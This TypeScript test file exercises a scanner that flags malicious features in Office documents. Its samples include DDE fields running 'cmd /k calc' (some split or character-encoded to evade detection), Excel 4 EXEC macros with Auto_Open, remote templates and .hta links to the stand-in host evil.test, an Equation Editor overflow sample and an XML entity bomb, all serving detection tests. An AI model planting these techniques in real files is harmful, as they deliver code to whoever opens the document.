import { createCipheriv, createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import { allow } from '../../../../shared/model/verdict.ts';
import { inspecting, told } from '../inspecting.ts';
import { makeCompound } from './make-compound.ts';
import { makeBiff, makeNative, makePackage, relationships, wordBody } from './make-office.ts';

const docx = (parts: Readonly<Record<string, string | Uint8Array>>) =>
  inspecting(makePackage(parts), 'a.docx');
const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (...runs: string[]) => `${mark('begin')}${runs.join('')}${mark('separate')}${mark('end')}`;

test('a quiet document, workbook and presentation are clean', () => {
  const quiet = docx({
    'word/document.xml': wordBody(`<w:r><w:t>DDEAUTO is a word here</w:t></w:r>${field(run('PAGE'))}`),
    'word/_rels/document.xml.rels': relationships(['hyperlink', 'https://corp.test/']),
  });
  expect(quiet.verdict).toEqual({ level: 'allow', reasons: [] });
  expect(inspecting(makeCompound([{ path: 'Workbook', content: makeBiff([]) }]), 'a.xls').verdict.level).toBe(
    'allow',
  );
});

test.each([
  ['in one run', field(run('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))],
  ['split across runs', field(run('D'), run('DEAU'), run('TO cmd "/k calc"'))],
  ['in letters of numbers', field(field(run('QUOTE 68 68 69 65 85 84 79')), run(' cmd "/k calc"'))],
  ['in a simple field', '<w:fldSimple w:instr="dde cmd &quot;/k calc&quot;"/>'],
  ['in escaped letters', field(run('&#68;&#x44;E cmd "/k calc"'))],
  ['in a field without an end', `${mark('begin')}${run('DDE cmd "/k calc"')}`],
])('DDE is found %s', (_, runs) => {
  const judgement = docx({ 'word/document.xml': wordBody(runs) });
  expect(told(judgement)).toContain('document.dde word/document.xml');
  expect(judgement.verdict.level).toBe('hold');
});

test('DDE of a workbook is held, in all three of its formats', () => {
  const link = '<ddeLink xmlns:r="r" ddeService="cmd" ddeTopic="/c calc"/>';
  const xlsx = makePackage({ 'xl/externalLinks/externalLink1.xml': `<externalLink>${link}</externalLink>` });
  expect(told(inspecting(xlsx, 'a.xlsx'))).toEqual(['document.dde xl/externalLinks/externalLink1.xml']);
  const wide = (text: string) => {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32LE(text.length);
    return Buffer.concat([bytes, Buffer.from(text, 'utf16le')]);
  };
  const book = Buffer.concat([Buffer.of(1, 0), wide('cmd'), wide('/c calc')]);
  const binary = Buffer.concat([Buffer.of(0x80 | (360 & 0x7f), 360 >> 7, book.length), book]);
  const xlsb = makePackage({ 'xl/externalLinks/externalLink1.bin': binary });
  expect(told(inspecting(xlsb, 'a.xlsb'))).toEqual(['document.dde xl/externalLinks/externalLink1.bin']);
  const path = 'cmd\u0003/c calc';
  const supBook = Buffer.concat([Buffer.of(0, 0, path.length, 0, 0), Buffer.from(path, 'latin1')]);
  const xls = makeCompound([{ path: 'Workbook', content: makeBiff([[0x01ae, supBook]]) }]);
  expect(inspecting(xls, 'a.xls').verdict.reasons[0]).toMatchObject({
    code: 'document.dde',
    params: { command: 'cmd /c calc' },
  });
});

test('a link of a workbook to another one is no DDE', () => {
  const path = '\u0001folder\u0003other.xls';
  const supBook = Buffer.concat([Buffer.of(1, 0, path.length, 0, 0), Buffer.from(path, 'latin1')]);
  const xls = makeCompound([{ path: 'Workbook', content: makeBiff([[0x01ae, supBook]]) }]);
  expect(inspecting(xls, 'a.xls').verdict.level).toBe('allow');
});

/** BOUNDSHEET of a macro sheet: where it begins, how hidden, type 1. */
function macroSheet(start: number, hidden: number): readonly [number, Buffer] {
  const content = Buffer.concat([Buffer.alloc(4), Buffer.of(hidden, 1, 6, 0), Buffer.from('Macro1')]);
  content.writeUInt32LE(start);
  return [0x0085, content];
}

test('Excel 4 macros are found, and held where they are hidden, start by themselves or run something', () => {
  const judged = (...records: (readonly [number, Buffer])[]) =>
    inspecting(makeCompound([{ path: 'Workbook', content: makeBiff(records) }]), 'a.xls').verdict;
  expect(judged(macroSheet(0, 0))).toMatchObject({
    level: 'warn',
    reasons: [{ code: 'document.macro-sheet' }],
  });
  expect(judged(macroSheet(0, 2))).toMatchObject({
    level: 'hold',
    reasons: [{ code: 'document.macro-sheet-dangerous', params: { sheet: 'Macro1', isHidden: 'yes' } }],
  });
  // NAME with the built-in 1: Auto_Open.
  const autoOpen: readonly [number, Buffer] = [
    0x0018,
    Buffer.concat([Buffer.of(0x20, 0, 0, 1), Buffer.alloc(10), Buffer.of(0, 1)]),
  ];
  expect(judged(macroSheet(0, 0), autoOpen).reasons[0]?.params).toMatchObject({ starts: 'Auto_Open' });
  // A formula that is EXEC("calc"): a text, then the function number 110 with one argument.
  const tokens = Buffer.concat([Buffer.of(0x17, 4, 0), Buffer.from('calc'), Buffer.of(0x42, 1, 110, 0)]);
  const formula = Buffer.concat([Buffer.alloc(20), Buffer.of(tokens.length, 0), tokens]);
  expect(judged(macroSheet(0, 0), [0x0006, formula]).reasons[0]?.params).toMatchObject({ does: 'EXEC' });
  const part = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>';
  expect(told(inspecting(makePackage({ 'xl/macrosheets/sheet1.xml': part }), 'a.xlsm'))).toEqual([
    'document.macro-sheet xl/macrosheets/sheet1.xml',
  ]);
  const running = part.replace('/>', '><f>EXEC("calc")</f></xm:macrosheet>');
  expect(told(inspecting(makePackage({ 'xl/macrosheets/sheet1.xml': running }), 'a.xlsm'))).toEqual([
    'document.macro-sheet-dangerous xl/macrosheets/sheet1.xml',
  ]);
  // BrtFmlaNum (9): column, style, value, flags, then the formula with EXEC.
  const cell = Buffer.concat([
    Buffer.of(9, 30),
    Buffer.alloc(22),
    Buffer.of(8, 0, 0, 0),
    Buffer.of(0x42, 1, 110, 0),
  ]);
  expect(told(inspecting(makePackage({ 'xl/macrosheets/sheet1.bin': cell }), 'a.xlsb'))).toEqual([
    'document.macro-sheet-dangerous xl/macrosheets/sheet1.bin',
  ]);
});

test.each([
  ['attachedTemplate', 'https://evil.test/a.dotm', 'document.remote-template', 'hold'],
  ['attachedTemplate', '\\\\evil.test\\share\\a.dotm', 'document.remote-template', 'hold'],
  [
    'oleObject',
    'mhtml:https://evil.test/a.html!x-usc:https://evil.test/a.html',
    'document.remote-part',
    'hold',
  ],
  ['frame', 'http://evil.test/', 'document.remote-part', 'hold'],
  ['image', 'file://evil.test/a.png', 'document.remote-part', 'hold'],
  ['image', 'https://evil.test/a.png', 'document.remote-part', 'warn'],
])('a part %s from %s is %s', (kind, target, code, level) => {
  const judgement = docx({ 'word/_rels/settings.xml.rels': relationships([kind, target]) });
  expect(told(judgement)).toEqual([`${code} word/_rels/settings.xml.rels`]);
  expect(judgement.verdict.level).toBe(level);
});

test.each([
  ['attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'],
  ['externalLinkPath', 'file:///C:/other.xlsx'],
  ['externalLinkPath', 'Book2.xlsx'],
])('a %s on this computer (%s) says nothing', (kind, target) => {
  expect(docx({ 'word/_rels/settings.xml.rels': relationships([kind, target]) }).verdict.level).toBe('allow');
});

test('links of documents are judged by the gate', () => {
  const asked: string[] = [];
  inspecting(
    makePackage({
      'word/_rels/document.xml.rels': relationships(['hyperlink', 'https://one.test/']),
      'word/document.xml': wordBody(field(run('HYPERLINK "https://two.test/" \\o "x"'))),
      'xl/worksheets/sheet1.xml': '<worksheet><c><f>HYPERLINK("https://three.test/","x")</f></c></worksheet>',
    }),
    'a.docx',
    {
      link: (url) => {
        asked.push(url);
        return allow;
      },
    },
  );
  expect(asked).toEqual(['https://one.test/', 'https://two.test/', 'https://three.test/']);
});

test.each([
  ['a prefix of any letters', '<ü:ocx ü:classid="{x}"/>', 'document.activex'],
  ['capital letters', '<AX:OCX AX:CLASSID="{x}"/>', 'document.activex'],
  ['a line behind its name', '<ocx\nclassid="{x}"/>', 'document.activex'],
  [
    'a number for a letter',
    '<Relationship TargetMode="Extern&#97;l" Target="http://x.test"/>',
    'document.remote-part',
  ],
  ['nothing else beside it', '<c><f>_xlfn.WEBSERVICE("https://x.test/")</f></c>', 'document.remote-part'],
  ['a comment in its middle', '<c><f>WEB<!-- -->SERVICE("https://x.test/")</f></c>', 'document.remote-part'],
  ['CDATA in its middle', "<c><f>cmd<![CDATA[|]]>'/c calc'!A0</f></c>", 'document.formula-runs'],
  ['a program behind a click', '<a:hlinkClick action="ppaction://program"/>', 'document.starts-program'],
])('what an element does is found with %s', (_, element, code) => {
  expect(told(docx({ 'word/a.xml': `<d>${element}</d>` }))).toEqual([`${code} word/a.xml`]);
});

test.each([
  [
    'the lines of its pages, as LibreOffice Writer keeps them',
    'layout-cache',
    '0100010070130000005000000400',
  ],
  ['a photograph with its background removed', 'ppt/media/hdphoto1.wdp', '4949bc0108000000'],
  ['a model in three dimensions', 'ppt/media/model3d1.glb', '676c54460200000000010000'],
])('a document is clean with %s', (_, name, hex) => {
  const part = Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(40, 0x81)]);
  expect(told(docx({ [name]: part }))).toEqual([]);
});

test('an embedded file is told by its name and inspected itself', () => {
  const object = makeCompound([
    { path: '\u0001Ole10Native', content: makeNative('invoice.bat', '@echo off\r\ncalc') },
  ]);
  const judgement = docx({ 'word/embeddings/oleObject1.bin': object });
  expect(told(judgement)).toEqual([
    'file.script word/embeddings/oleObject1.bin/Ole10Native/invoice.bat',
    'document.embedded-file word/embeddings/oleObject1.bin/Ole10Native',
  ]);
  expect(judgement.verdict.reasons[1]?.params).toMatchObject({ name: 'invoice.bat' });
});

test('objects of dangerous classes are named (CVE-2017-11882, CVE-2021-40444, CVE-2012-0158)', () => {
  const object = (classId: string, ...streams: { path: string; content: Buffer }[]) =>
    told(inspecting(makeCompound([{ path: 'o/x', content: 'x' }, ...streams], { o: classId }), 'a.doc'));
  expect(object('0002ce02-0000-0000-c000-000000000046')).toEqual(['document.equation o']);
  expect(object('8856f961-340a-11d0-a96b-00c04fd705a2')).toEqual(['document.embedded-browser o']);
  expect(object('bdd1f04b-858b-11d1-b16a-00c0f0283628')).toEqual(['document.activex o']);
  const font = Buffer.concat([
    Buffer.alloc(28),
    Buffer.of(3, 1, 1, 3, 10, 10, 8, 90, 90),
    Buffer.alloc(60, 0x41),
    Buffer.alloc(4),
  ]);
  expect(
    object('0002ce02-0000-0000-c000-000000000046', { path: 'o/Equation Native', content: font }),
  ).toContain('document.equation-exploit o/Equation Native');
});

test('a linked object that comes from elsewhere is held', () => {
  const address = Buffer.from('https://evil.test/a.hta\0', 'utf16le');
  const size = Buffer.alloc(4);
  size.writeUInt32LE(address.length);
  const moniker = Buffer.concat([Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'), size, address]);
  const judgement = inspecting(makeCompound([{ path: 'o/\u0001Ole', content: moniker }]), 'a.doc');
  expect(told(judgement)).toEqual(['document.remote-part o/Ole']);
  expect(judgement.verdict.level).toBe('hold');
});

test('controls are named by their class, and forms are not made worse than they are', () => {
  const ocx = (id: string) =>
    docx({ 'word/activeX/activeX1.xml': `<ax:ocx xmlns:ax="a" ax:classid="{${id}}"/>` }).verdict;
  expect(ocx('D7053240-CE69-11CD-A777-00DD01143C57').level).toBe('notice');
  expect(ocx('D27CDB6E-AE6D-11CF-96B8-444553540000')).toMatchObject({
    level: 'hold',
    reasons: [{ code: 'document.flash' }],
  });
  expect(ocx('12345678-0000-0000-0000-000000000000').level).toBe('warn');
});

test('what is encrypted is held, and what Excel opens without asking is looked into', () => {
  const info = Buffer.from('EncryptionInfo');
  const unknown = makeCompound([
    { path: 'EncryptionInfo', content: Buffer.concat([Buffer.of(4, 0, 4, 0, 0x40, 0, 0, 0), info]) },
    { path: 'EncryptedPackage', content: Buffer.alloc(64) },
  ]);
  expect(told(inspecting(unknown, 'a.xlsx'))).toEqual(['file.encrypted']);
  const opened = inspecting(
    encryptedByDefault(
      makePackage({ 'xl/externalLinks/e.xml': '<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>' }),
    ),
    'a.xlsx',
  );
  expect(told(opened)).toEqual([
    'document.dde EncryptedPackage/xl/externalLinks/e.xml',
    'document.default-password',
  ]);
});

test('a password that asks for endless rounds is not tried', () => {
  const info =
    '<encryption><keyData saltSize="16" keyBits="128" hashAlgorithm="SHA1" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC"/><p:encryptedKey spinCount="2000000000" keyBits="128" hashAlgorithm="SHA1" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC"/></encryption>';
  const endless = makeCompound([
    {
      path: 'EncryptionInfo',
      content: Buffer.concat([Buffer.of(4, 0, 4, 0, 0x40, 0, 0, 0), Buffer.from(info)]),
    },
    { path: 'EncryptedPackage', content: Buffer.alloc(64) },
  ]);
  expect(told(inspecting(endless, 'a.xlsx'))).toEqual(['file.encrypted']);
});

test('entities of XML are not expanded and hold the part (CVE-2003-1564)', () => {
  const bomb = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>';
  expect(told(docx({ 'word/document.xml': bomb }))).toEqual(['file.not-inspected word/document.xml']);
});

test('a broken part does not hide what is in the others', () => {
  const judgement = docx({
    'word/document.xml': '<w:instrText',
    'word/_rels/a.rels': relationships(['frame', 'http://evil.test']),
  });
  expect(told(judgement).sort()).toEqual([
    'document.remote-part word/_rels/a.rels',
    'file.not-inspected word/document.xml',
  ]);
});

/** MS-OFFCRYPTO section 2.3.4.10 with the password that Excel tries, one round. */
function encryptedByDefault(plain: Buffer): Buffer {
  const sha = (...pieces: Buffer[]) => createHash('sha1').update(Buffer.concat(pieces)).digest();
  const salt = Buffer.alloc(16, 7);
  const key = Buffer.alloc(16, 9);
  const number = (value: number) => Buffer.of(value, 0, 0, 0);
  const start = sha(number(0), sha(salt, Buffer.from('VelvetSweatshop', 'utf16le')));
  const encrypt = (own: Buffer, vector: Buffer, bytes: Buffer) => {
    const cipher = createCipheriv('aes-128-cbc', own.subarray(0, 16), vector.subarray(0, 16)).setAutoPadding(
      false,
    );
    return cipher.update(Buffer.concat([bytes, Buffer.alloc((16 - (bytes.length % 16)) % 16)]));
  };
  const sealed = (block: string, bytes: Buffer) =>
    encrypt(sha(start, Buffer.from(block, 'hex')), salt, bytes).toString('base64');
  const input = Buffer.alloc(16, 5);
  const settings =
    'keyBits="128" hashAlgorithm="SHA1" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC"';
  const xml = `<encryption xmlns:p="p"><keyData saltValue="${salt.toString('base64')}" ${settings}/><p:encryptedKey spinCount="1" saltValue="${salt.toString('base64')}" ${settings} encryptedVerifierHashInput="${sealed('fea7d2763b4b9e79', input)}" encryptedVerifierHashValue="${sealed('d7aa0f6d3061344e', sha(input))}" encryptedKeyValue="${sealed('146e0be7abacd0d6', key)}"/></encryption>`;
  const segments: Buffer[] = [];
  for (let at = 0; at < plain.length; at += 4096) {
    segments.push(encrypt(key, sha(salt, number(at / 4096)), plain.subarray(at, at + 4096)));
  }
  const size = Buffer.alloc(8);
  size.writeUInt32LE(plain.length);
  return makeCompound([
    {
      path: 'EncryptionInfo',
      content: Buffer.concat([Buffer.of(4, 0, 4, 0, 0x40, 0, 0, 0), Buffer.from(xml)]),
    },
    { path: 'EncryptedPackage', content: Buffer.concat([size, ...segments]) },
  ]);
}

test('a page or drawing inside of a document is a file of its own', () => {
  const judgement = docx({
    'word/afchunk.html': '<html><p>x<br><script>x</script>',
    'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
  });
  expect(told(judgement)).toEqual([
    'file.active-page word/afchunk.html',
    'file.active-page word/media/image1.svg',
  ]);
});

test('the name of an embedded file is the one in Unicode, which Windows shows', () => {
  const wide = (text: string) =>
    Buffer.concat([Buffer.of(text.length, 0, 0, 0), Buffer.from(text, 'utf16le')]);
  const native = Buffer.concat([makeNative('a?.txt', 'x'), wide(''), wide('\u00fcbersicht.txt'), wide('')]);
  const judgement = inspecting(makeCompound([{ path: '\u0001Ole10Native', content: native }]), 'a.doc');
  expect(judgement.verdict.reasons[0]?.params).toMatchObject({ name: '\u00fcbersicht.txt' });
});
